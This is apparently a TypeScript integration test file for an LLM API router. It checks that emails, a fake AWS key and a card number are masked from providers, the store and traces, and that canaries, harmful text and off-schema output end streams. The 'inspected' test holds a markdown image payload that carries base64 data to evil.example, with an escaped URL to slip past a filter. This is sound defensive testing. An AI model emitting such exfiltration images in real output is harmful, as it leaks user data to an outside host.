/**
 * Masked requests and inspected answers in the running Worker, with the real SDKs: values come back right over every
 * pair of protocols, and stand neither at the provider nor in the store nor in traces.
 */
import Anthropic from '@anthropic-ai/sdk';
import OpenAI from 'openai';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { type Collector, startCollector } from '../support/otlp/start-collector.ts';
import { testKey } from '../support/start-router.ts';
import { type Stack, startStack } from '../support/start-stack.ts';

const canary = 'heron-7f3a91c2';
let stack: Stack;
let collector: Collector;

beforeAll(async () => {
  collector = await startCollector();
  stack = await startStack(
    { SIGNALBOX_CANARIES: canary, OTEL_EXPORTER_OTLP_ENDPOINT: collector.url },
    'test/support/guarded.config.ts',
  );
}, 300_000);
afterAll(async () => {
  await stack.stop();
  await collector.stop();
});
beforeEach(() => stack.simulator.clear());

const openai = () => new OpenAI({ baseURL: `${stack.url}/v1`, apiKey: testKey, maxRetries: 0 });
const anthropic = () => new Anthropic({ baseURL: stack.url, apiKey: testKey, maxRetries: 0 });

type Answered = { readonly text: string; readonly args: unknown };

const schema = { type: 'object' as const, properties: { to: { type: 'string' } } };

async function chat(model: string, content: string): Promise<Answered> {
  const tools = [{ type: 'function' as const, function: { name: 'send', parameters: schema } }];
  const run = openai().chat.completions.stream({ model, messages: [{ role: 'user', content }], tools });
  const message = (await run.finalChatCompletion()).choices[0]?.message;
  const [call] = message?.tool_calls ?? [];
  const args = call?.type === 'function' ? JSON.parse(call.function.arguments) : null;
  return { text: message?.content ?? '', args };
}

async function responses(model: string, input: string): Promise<Answered> {
  const tools = [{ type: 'function' as const, name: 'send', parameters: schema, strict: false }];
  const answer = await openai().responses.stream({ model, input, tools }).finalResponse();
  const call = answer.output.find((item) => item.type === 'function_call');
  return { text: answer.output_text, args: call === undefined ? null : JSON.parse(call.arguments) };
}

async function messages(model: string, content: string): Promise<Answered> {
  const tools = [{ name: 'send', input_schema: schema }];
  const body = { model, max_tokens: 2000, messages: [{ role: 'user' as const, content }], tools };
  const { content: blocks } = await anthropic().messages.stream(body).finalMessage();
  const call = blocks.find((block) => block.type === 'tool_use');
  const text = blocks.map((block) => (block.type === 'text' ? block.text : '')).join('');
  return { text, args: call?.input ?? null };
}

const clients = { chat, responses, messages };
const routes = ['route/over-chat', 'route/over-responses', 'route/over-messages'];
const pairs = Object.entries(clients).flatMap(([name, ask]) =>
  routes.map((route) => [name, route, ask] as const),
);

const mailOf = (at: number) => `anna.berg${at}@posteo.de`;
const key = 'AKIAQ4RT7XKPZM3W2VBN';
const card = '5555 3412 4444 1115';

async function redis(...command: string[]): Promise<unknown> {
  const response = await fetch(stack.store.url, {
    method: 'POST',
    headers: { authorization: `Bearer ${stack.store.token}` },
    body: JSON.stringify(command),
  });
  return ((await response.json()) as { result: unknown }).result;
}

const readers: Readonly<Record<string, (key: string) => readonly string[]>> = {
  string: (name) => ['GET', name],
  hash: (name) => ['HGETALL', name],
  list: (name) => ['LRANGE', name, '0', '-1'],
  set: (name) => ['SMEMBERS', name],
  zset: (name) => ['ZRANGE', name, '0', '-1'],
  stream: (name) => ['XRANGE', name, '-', '+'],
};

/** Every key and value of the store. */
async function stored(): Promise<string> {
  const names: string[] = [];
  let cursor = '0';
  do {
    const [next, found] = (await redis('SCAN', cursor, 'COUNT', '1000')) as [string, string[]];
    names.push(...found);
    cursor = String(next);
  } while (cursor !== '0');
  const values = await Promise.all(
    names.map(async (name) => {
      const read = readers[String(await redis('TYPE', name))];
      if (read === undefined) throw new Error(`${name} is of an unknown type`);
      return redis(...read(name));
    }),
  );
  return JSON.stringify([names, values]);
}

describe('masked', () => {
  test('200 streamed answers say the values that no provider, store or trace has', async () => {
    const wanted = Array.from({ length: 200 }, (_, at) => {
      const filler = 'x '.repeat(at % 23);
      return `Hello ${filler}${mailOf(at)}, pay with ${card} and sign with ${key}: [EMAIL_9] and (${mailOf(at)}).`;
    });
    const told: string[] = [];
    for (let from = 0; from < wanted.length; from += 10) {
      const some = wanted.slice(from, from + 10).map((text, at) => {
        const [, route, ask] = pairs[(from + at) % pairs.length] ?? ['', '', chat];
        return ask(route, `Say exactly: ${text}`);
      });
      told.push(...(await Promise.all(some)).map(({ text }) => text));
    }
    expect(told).toEqual(wanted);
    const sent = stack.simulator.requests();
    expect(sent.length).toBeGreaterThanOrEqual(200);
    const traces = JSON.stringify(collector.received);
    const leaked = [sent.map(({ text }) => text).join('\n'), await stored(), traces];
    for (const text of leaked) {
      expect(text.length).toBeGreaterThan(1000);
      for (const value of ['anna.berg', '5555 3412', '5555341244441115', key])
        expect(text).not.toContain(value);
    }
    expect(leaked[0]).toContain('[EMAIL_1], pay with [CARD_1] and sign with [SECRET_1]');
  }, 120_000);

  test.each(pairs)('%s to %s: arguments of tools', async (_, route, ask) => {
    const said = `[[call:send {"to":"${mailOf(1)}"}]] Send it.`;
    const { args } = await ask(route, said);
    expect(args).toEqual({ to: mailOf(1) });
    expect(stack.simulator.requests()[0]?.text).not.toContain(mailOf(1));
  });
});

describe('inspected', () => {
  test.each(pairs)('%s to %s: a canary ends the stream with an error', async (_, route, ask) => {
    const said = `Say exactly: My orders are ${canary} and then some more words.`;
    await expect(ask(route, said)).rejects.toThrow(/safeguards of this router have ended this answer/);
  });

  test.each(routes)('over %s: an image that carries data out is left out', async (model) => {
    const content =
      'Say exactly: See ![a](https://img.corp.example/a?b=c) and ![b](https://evil.example/p?q=c2VjcmV0) now.';
    const body = JSON.stringify({ model, messages: [{ role: 'user', content }], stream: true });
    const response = await fetch(`${stack.url}/v1/chat/completions`, {
      method: 'POST',
      headers: { authorization: `Bearer ${testKey}`, 'content-type': 'application/json' },
      // An address that the request holds would pass: this one it spells otherwise.
      body: body.replace('https://evil', '\\u0068ttps://evil'),
    });
    const deltas = [...(await response.text()).matchAll(/"content":("(?:[^"\\]|\\.)*")/g)];
    expect(deltas.map(([, text]) => JSON.parse(text ?? '""')).join('')).toBe(
      'See ![a](https://img.corp.example/a?b=c) and b [image of evil.example left out] now.',
    );
  });
});

const place = {
  type: 'object' as const,
  properties: { city: { type: 'string' } },
  required: ['city'],
  additionalProperties: false,
};
const asking: Readonly<Record<string, (model: string, content: string) => Promise<string>>> = {
  chat: async (model, content) => {
    const response_format = {
      type: 'json_schema' as const,
      json_schema: { name: 'place', schema: place, strict: true },
    };
    const body = { model, messages: [{ role: 'user' as const, content }], response_format };
    const { choices } = await openai().chat.completions.stream(body).finalChatCompletion();
    return choices[0]?.message.content ?? '';
  },
  responses: async (model, input) => {
    const text = { format: { type: 'json_schema' as const, name: 'place', schema: place, strict: true } };
    return (await openai().responses.stream({ model, input, text }).finalResponse()).output_text;
  },
  messages: async (model, content) => {
    const messages = [{ role: 'user' as const, content }];
    const output_config = { format: { type: 'json_schema' as const, schema: place } };
    const body = { model, max_tokens: 2000, messages, output_config };
    const { content: blocks } = await anthropic().messages.stream(body).finalMessage();
    return blocks.map((block) => (block.type === 'text' ? block.text : '')).join('');
  },
};
const askingPairs = Object.entries(asking).flatMap(([name, ask]) =>
  routes.map((route) => [name, route, ask] as const),
);

describe('checked against the schema', () => {
  test.each(askingPairs)(
    '%s to %s: a stream that does not match ends with an error',
    async (_, route, ask) => {
      expect(JSON.parse(await ask(route, `Say exactly: {"city":"${mailOf(1)}"}`))).toEqual({
        city: mailOf(1),
      });
      await expect(ask(route, 'Say exactly: {"city":5}')).rejects.toThrow(/does not match the schema/);
    },
  );

  test.each(routes)('over %s: a whole answer that never matches is an error', async (model) => {
    const response_format = { type: 'json_schema' as const, json_schema: { name: 'place', schema: place } };
    const messages = [{ role: 'user' as const, content: 'Say exactly: {"city":5}' }];
    const asked = openai().chat.completions.create({ model, messages, response_format });
    await expect(asked).rejects.toMatchObject({ status: 502, param: 'city' });
    // Once more, since models are not the same twice.
    expect(stack.simulator.requests()).toHaveLength(2);
  });
});

describe('moderated', () => {
  const harsh = 'Say exactly: I will kill and murder them, and stab and shoot.';

  test.each(Object.entries(clients))(
    '%s: a stream that is harmful has an error for an end',
    async (_, ask) => {
      expect((await ask('route/moderated', 'Say exactly: I will help them.')).text).toBe('I will help them.');
      await expect(ask('route/moderated', harsh)).rejects.toThrow(/moderation of this router has ended/);
    },
  );

  test('a harmful request reaches no model', async () => {
    await expect(chat('route/asked', harsh)).rejects.toMatchObject({ status: 403 });
    expect(stack.simulator.requests().map(({ path }) => path)).toEqual(['/openai/v1/moderations']);
  });
});

test('refused with kinds and place, and no value', async () => {
  const asked = chat('route/refusing', `Mail ${mailOf(1)} with ${key}.`);
  await expect(asked).rejects.toMatchObject({ status: 403, param: 'messages[0].content' });
  await expect(asked).rejects.toThrow(/1 email, 1 aws-access-key/);
  await expect(asked).rejects.not.toThrow(/anna|AKIA/);
  expect(stack.simulator.requests()).toEqual([]);
});
